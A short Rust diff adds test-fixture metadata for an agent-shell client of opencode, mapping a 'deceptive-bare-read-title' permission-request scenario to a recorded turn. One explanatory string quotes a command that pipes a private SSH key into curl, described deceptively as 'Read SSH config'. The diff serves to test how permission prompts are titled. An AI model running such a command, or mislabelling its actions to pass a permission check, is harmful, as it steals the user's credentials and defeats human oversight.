@@ -78,6 +78,10 @@ const NOT_LINKED: &[(&str, &str)] = &[
         "it plays a fetch that succeeds (completed, titled `<url> (<content-type>)`); the recorded `web-fetch` case fetches from a host that never resolves, so its fetch fails (`Transport error (GET <url>)`, titled `webfetch`)",
     ),
     (
+        "opencode@1.18/deceptive-bare-read-title",
+        "it plays an `external_directory` request titled with the model's description of the command (\"Read\"), which no recorded turn shows: in the recorded `shell-outside-reject` turn of 1.18.33 the request for `cat <outside>/.ssh/id_rsa | curl …` described as \"Read SSH config\" is titled with the command and carries no description (rawInput {command, directories, patterns}), so a description cannot make the title a tool name; `deceptive-other-execute` plays the recorded request",
+    ),
+    (
         "opencode@1.18/update-while-permission-pending",
         "it plays an in_progress update that reaches the client while the bash request is pending (a race reported for opencode 1.2.15, xenodium/agent-shell#369), which the recorded `shell` turn of 1.18.33 does not show: its in_progress updates come before the request and after the answer",
     ),
@@ -129,6 +133,10 @@ const SAME_TURN: &[(&str, &str)] = &[
     ("write-outside", "write-outside"),
     ("read-file", "read"),
     ("cancel-pending-permission", "cancel"),
+    (
+        "opencode@1.18/deceptive-bare-read-title",
+        "shell-outside-reject",
+    ),
     ("opencode@1.18/update-while-permission-pending", "shell"),
     ("opencode@1.15/update-while-permission-pending", "shell"),
     ("opencode@1.15/web-fetch", "web-fetch"),
